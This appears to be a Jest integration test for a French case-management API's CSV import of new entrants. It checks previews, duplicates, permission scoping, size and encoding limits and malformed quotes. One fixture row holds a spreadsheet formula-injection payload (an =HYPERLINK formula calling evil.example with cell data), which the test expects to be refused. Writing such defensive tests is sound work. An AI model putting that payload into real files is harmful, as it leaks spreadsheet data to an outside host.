import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { addDays, ENTRANTS_MAX_BYTES, parisToday } from '@passerelle/coaching';
import {
  as as asUser,
  createTestContext,
  seedOrganisation,
  startApi,
  type RunningApi,
  type TestContext,
  type TestOrganisation,
  type TestUser,
} from '@passerelle/testing';

const today = parisToday();
const french = (date: string): string => date.split('-').reverse().join('/');
const oriented = french(addDays(today, -3));

interface Preview {
  digest: string;
  separator: string;
  lines: number;
  toCreate: Array<{ line: number; lastName: string; communeName: string; structureName: string; birthDate: string }>;
  duplicates: Array<{ line: number; existingId: string | null; duplicateOfLine: number | null }>;
  refused: Array<{ line: number; problems: Array<{ field: string; reason: string }> }>;
}
interface ErrorBody {
  code: string;
  details: Array<{ field: string; reason: string }>;
}

/**
 * The new entrants' import: a manager previews the orientation service's CSV (lines to create,
 * duplicates against existing files, refused lines by number and reason), then confirms it; each
 * line becomes an `oriented` file. The defences each get their attack: a coach, another
 * département's structure, a file too big or too long, formulas, stray and unclosed quotes, a file
 * that is not UTF-8, a confirmation of another file than the one previewed, a second confirmation.
 */
describe('new entrants: CSV import with a preview', () => {
  let context: TestContext;
  let api: RunningApi;
  let org: TestOrganisation;
  let db: DataSource;
  let knownId: string;
  const as = (user: TestUser) => asUser(api, user);

  const send = (user: TestUser, path: string, csv: string | Buffer, digest?: string) => {
    const call = request(api.url)
      .post(path)
      .auth(user.accessToken, { type: 'bearer' })
      .attach('file', Buffer.isBuffer(csv) ? csv : Buffer.from(csv, 'utf8'), {
        filename: 'entrants.csv',
        contentType: 'text/csv',
      });
    return digest === undefined ? call : call.field('digest', digest);
  };
  const preview = (user: TestUser, csv: string | Buffer) => send(user, '/entrants-imports/preview', csv);
  const count = async (): Promise<number> =>
    Number((await db.query('SELECT count(*)::int AS n FROM beneficiary'))[0].n as number);

  const HEADER = 'Nom;Prénom;Date de naissance;Adresse;Date d’orientation;Structure';
  const FILE = [
    HEADER,
    `Durand;Léa;05/03/1990;"12 rue des Lilas; Bât. B 59000 Lille";${oriented};UT Lille`,
    `Connu;Karim;12/07/1985;3 place du Marché 59000 Lille;${oriented};UT Lille`,
    `"=HYPERLINK(""http://evil.example/?""&A1)";Max;01/01/1980;1 rue A 59000 Lille;${oriented};UT Lille`,
    `Martin;Paul;31/02/1990;1 rue A 59000 Lille;${oriented};UT Lille`,
    `Petit;Zoé;01/01/1995;1 rue A 59000 Lille;${oriented};Collectivité européenne d’Alsace`,
    `Du"bois;Ana;01/01/1995;1 rue A 59000 Lille;${oriented};UT Lille`,
    `DURAND;lea;05/03/1990;12 rue des Lilas 59000 Lille;${oriented};ut lille`,
    `Bernard;Inès;20/11/2000;8 rue de Paris 59000 Lille;${oriented};Département du Nord`,
  ].join('\r\n');

  beforeAll(async () => {
    context = await createTestContext({ referential: true });
    api = await startApi(context.config);
    org = await seedOrganisation(api);
    db = api.app.get(DataSource);
    const known = await as(org.users.coachLille)
      .post('/beneficiaries', {
        firstName: 'Karim',
        lastName: 'Connu',
        birthDate: '1985-07-12',
        commune: { inseeCode: '59350' },
        orientationDate: addDays(today, -60),
      })
      .expect(201);
    knownId = (known.body as { id: string }).id;
  });

  afterAll(async () => {
    await api?.close();
    await context?.cleanup();
  });

  it('a coach cannot import, not even preview (403), and nothing is read', async () => {
    const refused = await preview(org.users.coachLille, FILE).expect(403);
    expect((refused.body as ErrorBody).code).toBe('auth.forbidden');
    await send(org.users.coachLille, '/entrants-imports', FILE, 'a'.repeat(64)).expect(403);
  });

  it('previews: lines to create, duplicates (an existing file, an earlier line), refused lines with number and reason', async () => {
    const before = await count();
    const response = await preview(org.users.managerNord, FILE).expect(200);
    const body = response.body as Preview;
    expect(body).toMatchObject({ separator: ';', lines: 8 });
    expect(body.toCreate.map((line) => [line.line, line.lastName, line.structureName, line.communeName])).toEqual([
      [2, 'Durand', 'UT Lille', 'Lille'],
      [9, 'Bernard', 'Département du Nord', 'Lille'],
    ]);
    expect(body.toCreate[0].birthDate).toBe('1990-03-05');
    expect(body.duplicates).toEqual([
      expect.objectContaining({ line: 3, existingId: knownId, duplicateOfLine: null }),
      expect.objectContaining({ line: 8, existingId: null, duplicateOfLine: 2 }),
    ]);
    const refused = Object.fromEntries(
      body.refused.map((line) => [line.line, line.problems.map((problem) => problem.field)]),
    );
    expect(refused).toEqual({ 4: ['lastName'], 5: ['birthDate'], 6: ['structure'], 7: ['line'] });
    expect(body.refused.find((line) => line.line === 4)!.problems[0].reason).toContain('formule');
    expect(body.refused.find((line) => line.line === 6)!.problems[0].reason).toContain('hors de votre périmètre');
    expect(await count()).toBe(before);
    const audited: unknown[] = await db.query(
      `SELECT 1 FROM audit_event WHERE actor_user_id = $1 AND subject_id = $2 AND details->>'view' = 'entrants_import_duplicates'`,
      [org.users.managerNord.id, knownId],
    );
    expect(audited).toHaveLength(1);
  });

  it('confirms the file previewed: each line to create becomes an oriented file, once', async () => {
    const { digest } = (await preview(org.users.managerNord, FILE).expect(200)).body as Preview;
    const other = await send(org.users.managerNord, '/entrants-imports', `${FILE}\r\n`, digest).expect(409);
    expect((other.body as ErrorBody).code).toBe('import.changed');
    await send(org.users.managerNord, '/entrants-imports', FILE).expect(400);

    const confirmed = await send(org.users.managerNord, '/entrants-imports', FILE, digest).expect(201);
    const created = (confirmed.body as { created: Array<{ line: number; id: string }> }).created;
    expect(created.map((line) => line.line)).toEqual([2, 9]);
    const rows: Array<{ status: string; referent_user_id: string | null; structure_id: string; address: string }> =
      await db.query(
        'SELECT status, referent_user_id, structure_id, address FROM beneficiary WHERE id = ANY($1) ORDER BY last_name',
        [created.map((line) => line.id)],
      );
    expect(rows).toEqual([
      {
        status: 'oriented',
        referent_user_id: null,
        structure_id: org.structures.nord,
        address: '8 rue de Paris 59000 Lille',
      },
      {
        status: 'oriented',
        referent_user_id: null,
        structure_id: org.structures.lille,
        address: '12 rue des Lilas; Bât. B 59000 Lille',
      },
    ]);
    const audited: unknown[] = await db.query(
      `SELECT 1 FROM audit_event WHERE action = 'create' AND subject_id = ANY($1) AND details->>'via' = 'entrants_import'`,
      [created.map((line) => line.id)],
    );
    expect(audited).toHaveLength(2);

    // Confirmed again: everyone is now a duplicate, nobody is created twice.
    const again = await send(org.users.managerNord, '/entrants-imports', FILE, digest).expect(201);
    expect((again.body as { created: unknown[] }).created).toEqual([]);
    expect((again.body as { duplicates: unknown[] }).duplicates).toHaveLength(4);
  });

  it('another département’s manager reaches none of the Nord’s structures or files: only their own structure’s line is to create, no duplicate shown', async () => {
    const body = (await preview(org.users.managerBasRhin, FILE).expect(200)).body as Preview;
    expect(body.duplicates).toEqual([]);
    expect(body.toCreate.map((line) => line.structureName)).toEqual(['Collectivité européenne d’Alsace']);
  });

  it('reads `,`, a byte order mark and a commune column', async () => {
    const csv = `\uFEFFnom,prenom,date de naissance,code postal,commune,date orientation,structure\nNoël,Éva,1992-04-01,59000,Lille,${oriented},UT Lille\n`;
    const body = (await preview(org.users.managerNord, csv).expect(200)).body as Preview;
    expect(body).toMatchObject({ separator: ',', toCreate: [{ line: 2, lastName: 'Noël', communeName: 'Lille' }] });
  });

  it('refuses a file too big (413), too long, not UTF-8, unclosed, or without its columns (422, by reason)', async () => {
    const big = `${HEADER}\n${'x'.repeat(ENTRANTS_MAX_BYTES)}`;
    const tooBig = await preview(org.users.managerNord, big).expect(413);
    expect((tooBig.body as ErrorBody).code).toBe('import.too_large');

    const row = `A;B;01/01/1990;1 rue A 59000 Lille;${oriented};UT Lille`;
    const long = await preview(
      org.users.managerNord,
      [HEADER, ...Array.from({ length: 2001 }, () => row)].join('\n'),
    ).expect(422);
    expect((long.body as ErrorBody).code).toBe('import.too_many_rows');

    const latin1 = Buffer.from(`${HEADER}\nNoël;Éva;01/01/1990;x;${oriented};UT Lille\n`, 'latin1');
    expect(((await preview(org.users.managerNord, latin1).expect(422)).body as ErrorBody).code).toBe(
      'import.not_unicode',
    );

    const unclosed = await preview(org.users.managerNord, `${HEADER}\n${row}\n"Durand;Léa;x\n${row}\n`).expect(422);
    expect(unclosed.body).toMatchObject({ code: 'import.malformed', details: [{ field: 'file' }] });
    expect((unclosed.body as ErrorBody).details[0].reason).toMatch(/^ligne 3 :/);

    const columns = await preview(org.users.managerNord, 'Nom;Adresse\nDurand;x\n').expect(422);
    expect(columns.body).toMatchObject({ code: 'import.missing_columns' });

    const none = await request(api.url)
      .post('/entrants-imports/preview')
      .auth(org.users.managerNord.accessToken, { type: 'bearer' })
      .field('other', 'x')
      .expect(400);
    expect((none.body as ErrorBody).code).toMatch(/^import\./);
  });
});
